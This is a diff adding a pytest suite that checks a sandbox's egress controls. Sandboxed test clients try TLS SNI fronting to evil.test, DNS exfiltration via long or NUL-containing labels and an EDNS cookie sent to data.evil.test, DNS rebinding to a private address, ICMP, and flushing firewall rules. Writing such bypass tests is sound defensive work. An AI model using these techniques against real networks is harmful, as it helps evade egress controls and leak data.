@@ -1,0 +1,457 @@
+"""Egress bypasses beyond the conformance suite: odd TLS hellos, HTTP framing a lenient server reads
+differently, DNS tricks and rebinding, never-reachable answers, host-local routes, ICMP, policy
+changes cutting live connections, and what a real sandbox may do to its own network.
+
+Same rules as test_conformance.py: clients run in sandbox namespaces without capabilities,
+against the fake internet of egress_world.py; every check also looks at what the fake internet
+(or the fake host) did or did not receive.
+"""
+
+from __future__ import annotations
+
+import json
+import os
+import struct
+import subprocess
+import sys
+import textwrap
+import time
+
+import pytest
+
+from hutch import Network
+
+from egress_world import GW, HOST_SERVICE_PORT
+
+ALLOW_WWW = Network.allow(domains=["www.example.test"])
+
+
+def run_json(sb, code: str, *args, timeout=40, caps=False):
+    r = sb.run(sys.executable, "-c", textwrap.dedent(code), *args, timeout=timeout, caps=caps)
+    assert r.returncode == 0, r.stdout + r.stderr
+    return json.loads(r.stdout.strip().splitlines()[-1])
+
+
+# A client that sends raw bytes on a fresh connection per case and says what came back:
+# "reset", "eof", "timeout", or the first bytes of the answer.
+RAW_CLIENT = """
+import json, socket, sys, time
+cases = json.loads(sys.argv[1])
+out = {}
+for c in cases:
+    try:
+        s = socket.create_connection((c["host"], c["port"]), timeout=5)
+    except OSError as e:
+        out[c["name"]] = "connect-error " + type(e).__name__
+        continue
+    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
+    s.settimeout(c.get("wait", 3))
+    got = "timeout"
+    try:
+        for part in c["parts"]:
+            s.sendall(bytes.fromhex(part))
+            time.sleep(c.get("gap", 0))
+        data = b""
+        while True:
+            d = s.recv(65536)
+            if not d:
+                got = "data " + data.decode("latin-1") if data else "eof"
+                break
+            data += d
+            if c.get("until", "}").encode("latin-1") in data:
+                got = "data " + data.decode("latin-1")
+                break
+    except ConnectionResetError:
+        got = "reset"
+    except socket.timeout:
+        pass
+    except OSError as e:
+        got = "error " + type(e).__name__
+    s.close()
+    out[c["name"]] = got
+print(json.dumps(out))
+"""
+
+
+def raw_cases(sb, cases, timeout=60):
+    for c in cases:
+        c["parts"] = [p.hex() for p in c["parts"]]
+    return run_json(sb, RAW_CLIENT, json.dumps(cases), timeout=timeout)
+
+
+def body_of(result: str) -> dict:
+    assert result.startswith("data "), result
+    return json.loads(result.split("\r\n\r\n", 1)[1])
+
+
+# --- TLS ClientHellos, built by hand ----------------------------------------------
+
+
+def client_hello(names=(("www.example.test", 0),), *, sni_twice=False, extra=(), hs_type=1,
+                 declared=None) -> bytes:
+    """A TLS handshake message (no record header): ClientHello with the given server_name entries."""
+    exts = b""
+    if names is not None:
+        entries = b"".join(struct.pack("!BH", t, len(n)) + n for n, t in
+                           ((n.encode("utf-8") if isinstance(n, str) else n, t) for n, t in names))
+        data = struct.pack("!H", len(entries)) + entries
+        exts += (struct.pack("!HH", 0, len(data)) + data) * (2 if sni_twice else 1)
+    for etype, data in extra:
+        exts += struct.pack("!HH", etype, len(data)) + data
+    body = (b"\x03\x03" + os.urandom(32) + b"\x00" + b"\x00\x04\x13\x01\xc0\x2f" + b"\x01\x00"
+            + struct.pack("!H", len(exts)) + exts)
+    n = len(body) if declared is None else declared
+    return bytes([hs_type]) + n.to_bytes(3, "big") + body
+
+
+def records(hs: bytes, size: int = 16384, content_type: int = 0x16) -> list[bytes]:
+    return [bytes([content_type, 3, 1]) + struct.pack("!H", len(hs[i:i + size])) + hs[i:i + size]
+            for i in range(0, len(hs), size)]
+
+
+def test_tls_fronting_reaches_only_the_sni_names_address(sandbox, world):
+    """Inside TLS the proxy sees only the SNI (documented), so it dials the SNI name's own address."""
+    sb = sandbox(ALLOW_WWW)
+    mark = world.mark()
+    r = sb.curl("--resolve", "www.example.test:443:203.0.113.10", "-H", "Host: evil.test", "https://www.example.test/f")
+    assert r.returncode == 0, r.stderr
+    assert json.loads(r.stdout)["server"] == "192.0.2.10"
+    # the other way round: a forbidden SNI with an allowed inner Host is refused before any dial
+    r = sb.curl("--resolve", "evil.test:443:192.0.2.10", "-H", "Host: www.example.test", "https://evil.test/g")
+    assert r.returncode != 0
+    reached = [(e.get("local"), e.get("path")) for e in world.events_since(mark) if e["kind"] in ("tcp", "http")]
+    assert reached and all(local == "192.0.2.10" for local, _ in reached), reached
+    assert ("192.0.2.10", "/g") not in reached
+
+
+# --- HTTP requests -----------------------------------------------------------------
+
+
+def req(target, *headers, method="GET", version="HTTP/1.1", body=b"") -> bytes:
+    head = f"{method} {target} {version}\r\n" + "".join(h + "\r\n" for h in headers) + "\r\n"
+    return head.encode("latin-1") + body
+
+
+# A server that reads framing the way some real ones do: HTTP/1.0 bodies by Content-Length only
+# (Transfer-Encoding ignored), header names with "_" taken as "-" (CGI/WSGI style). It logs the
+# Host of every request it parses.
+
+
+# --- DNS -------------------------------------------------------------------------------
+
+DNS_CLIENT = """
+import json, random, socket, struct, sys
+GW = sys.argv[1]
+def wire(name):
+    if isinstance(name, list):   # raw labels
+        return b"".join(bytes([len(x)]) + x.encode("latin-1") for x in name) + b"\\0"
+    return b"".join(bytes([len(p)]) + p.encode("latin-1") for p in name.split(".")) + b"\\0"
+def ask(name, qtype=1, flags=0x0100, qd=1, extra=b"", ar=0, tcp=False):
+    qid = random.randrange(65536)
+    msg = struct.pack("!HHHHHH", qid, flags, qd, 0, 0, ar)
+    for _ in range(qd):
+        msg += wire(name) + struct.pack("!HH", qtype, 1)
+    msg += extra
+    if tcp:
+        s = socket.create_connection((GW, 53), timeout=3)
+        s.sendall(struct.pack("!H", len(msg)) + msg)
+        data = s.recv(4096)[2:]
+    else:
+        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(3)
+        s.sendto(msg, (GW, 53)); data = s.recv(4096)
+    s.close()
+    return [data[3] & 0xF, struct.unpack("!H", data[6:8])[0]]
+# EDNS0 OPT with a client-subnet option and a cookie that would carry data upstream
+opt = b"\\0" + struct.pack("!HHIH", 41, 4096, 0, 4 + 8 + 4 + 8) + struct.pack("!HH", 8, 8) + b"\\x00\\x01\\x18\\x00\\xc0\\x00\\x02\\x00" + struct.pack("!HH", 10, 8) + b"secretsx"
+cases = json.loads(sys.argv[2])
+out = {}
+for c in cases:
+    case = c.pop("case")
+    out[case] = ask(**c)
+print(json.dumps(out))
+"""
+
+
+def test_dns_tricks_never_send_a_forbidden_name_upstream(sandbox, world):
+    sb = sandbox(Network.allow(domains=["*.example.test"]))
+    long = ".".join(["s" * 63] * 3) + ".evil.test"
+    cases = {   # case: (query arguments, expected [rcode, answers])
+        "suffix-appended": ({"name": "www.example.test.evil.test"}, [3, 0]),
+        "suffix-glued": ({"name": "evilexample.test"}, [3, 0]),
+        "apex-glued": ({"name": "xexample.test"}, [3, 0]),
+        "long": ({"name": long}, [3, 0]),
+        "long-tcp": ({"name": long, "tcp": True}, [3, 0]),
+        "nul-label": ({"name": ["data\0x", "example", "test"]}, [3, 0]),
+        "dot-in-label": ({"name": ["data.evil", "test"]}, [3, 0]),
+        "case-0x20": ({"name": "WwW.ExAmPlE.TeSt"}, [0, 1]),
+        "edns-forbidden": ({"name": "data.evil.test", "ar": 1, "extra": "OPT"}, [3, 0]),
+        "edns-allowed": ({"name": "www.example.test", "ar": 1, "extra": "OPT"}, [0, 1]),
+        "https-type": ({"name": "www.example.test", "qtype": 65}, [0, 0]),
+        "svcb-type": ({"name": "www.example.test", "qtype": 64}, [0, 0]),
+        "any-type": ({"name": "www.example.test", "qtype": 255, "tcp": True}, [0, 0]),
+        "null-type": ({"name": "data2.evil.test", "qtype": 10}, [3, 0]),
+        "update-opcode": ({"name": "example.test", "flags": 0x2800, "qtype": 6}, [4, 0]),
+        "notify-opcode": ({"name": "www.example.test", "flags": 0x2000}, [4, 0]),
+        "two-questions": ({"name": "data3.evil.test", "qd": 2}, [1, 0]),
+        "a-response": ({"name": "data4.evil.test", "flags": 0x8100}, [1, 0]),
+    }
+    payload = []
+    for case, (kw, _) in cases.items():
+        payload.append(dict(kw, case=case))
+    code = DNS_CLIENT.replace("out[case] = ask(**c)",
+                              'c["extra"] = opt if c.get("extra") == "OPT" else b""; out[case] = ask(**c)')
+    mark = world.mark()
+    got = run_json(sb, code, GW, json.dumps(payload))
+    assert got == {case: want for case, (_, want) in cases.items()}, got
+    asked = [(e["name"], e["qtype"]) for e in world.events_since(mark) if e["kind"] == "dns"]
+    assert set(asked) <= {("www.example.test", "A")}, asked
+
+
+def test_dns_rebinding_is_checked_when_the_proxy_dials(sandbox, world):
+    """rebind.example.test answers a public and a private address in turn, TTL 0."""
+    sb = sandbox(Network.allow(domains=["rebind.example.test"]))
+    mark = world.mark()
+    outcomes = []
+    for _ in range(3):
+        time.sleep(1.1)     # the gateway keeps even a TTL-0 answer for a second
+        r = sb.py(textwrap.dedent("""
+            import socket
+            s = socket.create_connection(("203.0.113.10", 80), timeout=5)
+            s.sendall(b"GET /rebind HTTP/1.1\\r\\nHost: rebind.example.test\\r\\n\\r\\n")
+            try:
+                print("data" if s.recv(100) else "eof")
+            except ConnectionResetError:
+                print("reset")
+        """))
+        outcomes.append(r.stdout.strip())
+    answers = [e["answer"] for e in world.events_since(mark) if e["kind"] == "rebind"]
+    assert len(answers) >= 3, answers
+    # each connection was decided on the proxy's own, fresh lookup
+    assert outcomes == ["data" if a == ["203.0.113.10"] else "reset" for a in answers[:3]], (outcomes, answers)
+    evs = world.events_since(mark)
+    assert not [e for e in evs if e.get("local") == "10.0.0.1"], evs
+    assert any(d.verdict == "deny" and "10.0.0.1" in d.reason for d in sb.log())
+
+
+# --- addresses that must never be dialed ---------------------------------------------------
+
+NEVER_NAMES = ["zero.example.test", "bcast.example.test", "mcast.example.test", "sibling.example.test",
+               "bench.example.test", "alimeta.example.test"]
+
+
+def test_names_resolving_to_never_or_special_addresses_are_refused(sandbox, world):
+    other = sandbox(Network.open())    # so that 198.18.0.2 may well be a live sibling sandbox
+    sb = sandbox(Network.allow(domains=["*.example.test"], ports=None))
+    assert other.address
+    mark = world.mark()
+    cases = []
+    for name in NEVER_NAMES:
+        for port in (80, HOST_SERVICE_PORT):
+            cases.append({"name": f"{name}:{port}", "host": "192.0.2.10", "port": port, "wait": 2,
+                          "parts": [req("/never", f"Host: {name}")]})
+    got = raw_cases(sb, cases)
+    assert set(got.values()) <= {"reset", "eof"}, got
+    r = sb.run("getent", "ahostsv4", *NEVER_NAMES)
+    assert r.stdout.strip() == "", r.stdout
+    time.sleep(0.2)
+    evs = world.events_since(mark)
+    assert not [e for e in evs if e["kind"] in ("tcp", "http", "host-tcp")], evs
+    denied = {d.name for d in sb.log() if d.verdict == "deny"}
+    assert set(NEVER_NAMES) <= denied, denied
+
+
+# --- ICMP and raw sockets ------------------------------------------------------------
+
+
+def icmp_in_echos(world) -> int:
+    out = subprocess.run(["ip", "netns", "exec", world.inet, "cat", "/proc/net/snmp"], capture_output=True,
+                         text=True, check=True).stdout.splitlines()
+    names, values = [ln.split() for ln in out if ln.startswith("Icmp:")][:2]
+    return int(values[names.index("InEchos")])
+
+
+PING = """
+import json, socket, struct
+out = {}
+try:
+    socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP); out["raw"] = "opened"
+except OSError as e:
+    out["raw"] = type(e).__name__
+try:
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP); s.settimeout(1)
+    sent = 0
+    for dst in ("203.0.113.10", "192.0.2.53", "%s"):
+        try:
+            s.sendto(struct.pack("!BBHHH", 8, 0, 0, 1, 1) + b"hutch", (dst, 0)); sent += 1
+        except OSError:
+            pass
+    try:
+        s.recv(100); out["ping"] = "reply"
+    except OSError:
+        out["ping"] = "no reply, sent %%d" %% sent
+except OSError as e:
+    out["ping"] = type(e).__name__
+print(json.dumps(out))
+""" % GW
+
+
+def test_icmp_and_raw_sockets_never_leave(sandbox, world):
+    sb = sandbox(Network.open())
+    # the worst case: ping sockets allowed to every group (some distributions do this)
+    sb.run("sh", "-c", "echo 0 2147483647 > /proc/sys/net/ipv4/ping_group_range", caps=True, check=True)
+    before = icmp_in_echos(world)
+    got = run_json(sb, PING)
+    assert got["raw"] == "PermissionError" and got["ping"].startswith("no reply"), got
+    # and with the sandbox's own rules gone (CAP_NET_ADMIN gained somehow): the host drops ICMP
+    sb.run("nft", "flush", "ruleset", caps=True, check=True)
+    got = run_json(sb, PING, caps=True)
+    assert got["raw"] == "opened" and got["ping"].startswith("no reply"), got
+    assert icmp_in_echos(world) == before
+
+
+# --- policy changes cut live connections ------------------------------------------------
+
+HOLD = """
+import json, socket, sys, time
+conns = {}
+www = socket.create_connection(("www.example.test", 80), timeout=20)
+www.sendall(b"GET /slow HTTP/1.1\\r\\nHost: www.example.test\\r\\n\\r\\n")
+www.recv(100)
+conns["http"] = www
+echo = socket.create_connection(("203.0.113.20", 7000), timeout=20)
+echo.sendall(b"ping"); assert echo.recv(10) == b"ping"
+conns["raw"] = echo
+print("open", flush=True)
+sys.stdin.readline()
+t0 = time.monotonic()
+out = {}
+for name, s in conns.items():
+    s.settimeout(3)
+    try:
+        if name == "raw":
+            s.sendall(b"after")
+        while True:
+            d = s.recv(4096)
+            if not d:
+                out[name] = "eof"; break
+            if time.monotonic() - t0 > 1.5:
+                out[name] = "alive"; break
+    except ConnectionResetError:
+        out[name] = "reset"
+    except OSError as e:
+        out[name] = type(e).__name__
+out["seconds"] = round(time.monotonic() - t0, 2)
+print(json.dumps(out), flush=True)
+"""
+
+
+@pytest.mark.parametrize("new_policy", [
+    Network.none(),
+    Network.allow(domains=["api.example.test"]),
+    Network.allow(domains=["www.example.test"], cidrs=["203.0.113.20/32"], ports=[443]),
+], ids=["none", "other-name", "other-port"])
+def test_policy_change_cuts_established_connections(sandbox, world, new_policy):
+    sb = sandbox(Network.allow(domains=["www.example.test"], cidrs=["203.0.113.20/32"], ports=[80, 7000]))
+    p = subprocess.Popen(["ip", "netns", "exec", sb.netns, "setpriv", "--bounding-set=-all", "--inh-caps=-all",
+                          "--no-new-privs", "--", sys.executable, "-c", HOLD], stdin=subprocess.PIPE,
+                         stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
+    try:
+        assert p.stdout.readline().strip() == "open", p.stderr.read() if p.poll() is not None else ""
+        mark = world.mark()
+        sb.set_policy(new_policy)
+        out, err = p.communicate("go\n", timeout=20)
+    finally:
+        if p.poll() is None:
+            p.kill()
+        p.wait()
+    got = json.loads(out.strip().splitlines()[-1])
+    assert got["http"] in ("reset", "eof") and got["raw"] in ("reset", "eof", "BrokenPipeError"), (got, err)
+    assert got["seconds"] < 1.0, got
+    # nothing the sandbox sent after the change arrived
+    assert not [e for e in world.events_since(mark) if e["kind"] in ("tcp", "http")]
+    assert len([d for d in sb.log() if "policy change" in d.reason]) == 2, sb.log()
+
+
+def test_a_held_dns_connection_follows_the_new_policy(sandbox, world):
+    sb = sandbox(ALLOW_WWW)
+    p = subprocess.Popen(["ip", "netns", "exec", sb.netns, sys.executable, "-c", textwrap.dedent(f"""
+        import socket, struct, sys
+        s = socket.create_connection(({GW!r}, 53), timeout=5)
+        def ask(name):
+            msg = struct.pack("!HHHHHH", 7, 0x0100, 1, 0, 0, 0)
+            msg += b"".join(bytes([len(x)]) + x.encode() for x in name.split(".")) + b"\\0\\0\\1\\0\\1"
+            s.sendall(struct.pack("!H", len(msg)) + msg)
+            data = s.recv(4096)[2:]
+            return "%d/%d" % (data[3] & 0xF, struct.unpack("!H", data[6:8])[0])
+        print(ask("www.example.test"), flush=True)
+        sys.stdin.readline()
+        print(ask("www.example.test"), ask("held.evil.test"), flush=True)
+    """)], stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
+    try:
+        assert p.stdout.readline().strip() == "0/1", p.stderr.read() if p.poll() is not None else ""
+        mark = world.mark()
+        sb.set_policy(Network.allow(domains=["api.example.test"]))
+        out, err = p.communicate("go\n", timeout=20)
+    finally:
+        if p.poll() is None:
+            p.kill()
+        p.wait()
+    assert out.split() == ["3/0", "3/0"], out + err
+    assert not [e for e in world.events_since(mark) if e["kind"] == "dns"]
+
+
+# --- a real sandbox (the daemon's runtime) and its own network ------------------------------------
+
+
+@pytest.fixture(scope="module")
+def real_daemon(world):
+    """The real daemon in the fake host's netns; sandboxes in user namespaces, as by default."""
+    import shutil
+    import tempfile
+    from pathlib import Path
+
+    from hutch_testing import make_busybox_root, sdk_pointed_at, start_daemon, stop_daemon
+
+    busybox = shutil.which("busybox")
+    if busybox is None:
+        pytest.skip("busybox-static is not installed (scripts/debian-packages.txt lists it)")
+    tmp = Path(tempfile.mkdtemp(prefix="hutch-egress-bypass-"))
+    try:
+        root = make_busybox_root(tmp / "root", busybox)
+        run_dir = tmp / "run"
+        run_dir.mkdir()
+        env = {"HUTCH_EGRESS_RESOLVERS": "192.0.2.53", "HUTCH_EGRESS_SUBNET": "198.18.2.0/24"}
+        proc = start_daemon(run_dir, env, prefix=("nsenter", f"--net=/run/netns/{world.host}"))
+        try:
+            with sdk_pointed_at(run_dir):
+                yield root
+        finally:
+            stop_daemon(proc)
+    finally:
+        shutil.rmtree(tmp, ignore_errors=True)
+
+
+def test_a_real_sandbox_cannot_change_its_own_network(real_daemon, world):
+    import hutch
+
+    sb = hutch.Sandbox.create(image=hutch.Image.from_directory(real_daemon), timeout=60,
+                              network=Network.allow(domains=["www.example.test"]))
+    try:
+        status = sb.run("cat", "/proc/self/status").stdout
+        caps = {ln.split(":")[0]: int(ln.split()[1], 16) for ln in status.splitlines() if ln.startswith("Cap")}
+        assert caps["CapEff"] == 0 and caps["CapPrm"] == 0 and caps["CapBnd"] == 0, caps
+        mark = world.mark()
+        for argv in (["ip", "addr", "add", "198.18.2.77/32", "dev", "eth0"],
+                     ["ip", "route", "add", "10.0.0.0/8", "dev", "eth0"],
+                     ["ip", "link", "set", "eth0", "mtu", "1280"],
+                     ["ip", "link", "add", "x0", "type", "dummy"],
+                     ["sh", "-c", "echo 0 > /proc/sys/net/ipv6/conf/all/disable_ipv6"],
+                     ["sh", "-c", "echo '0 2147483647' > /proc/sys/net/ipv4/ping_group_range"]):
+            r = sb.run(*argv)
+            assert r.returncode != 0, (argv, r.stdout, r.stderr)
+        r = sb.run("ping", "-c", "1", "-W", "1", "203.0.113.10")
+        assert r.returncode != 0, r.stdout
+        assert "198.18.2.77" not in sb.run("ip", "addr").stdout
+        assert not [e for e in world.events_since(mark) if e["kind"] in ("tcp", "http", "udp")]
+    finally:
+        sb.terminate()
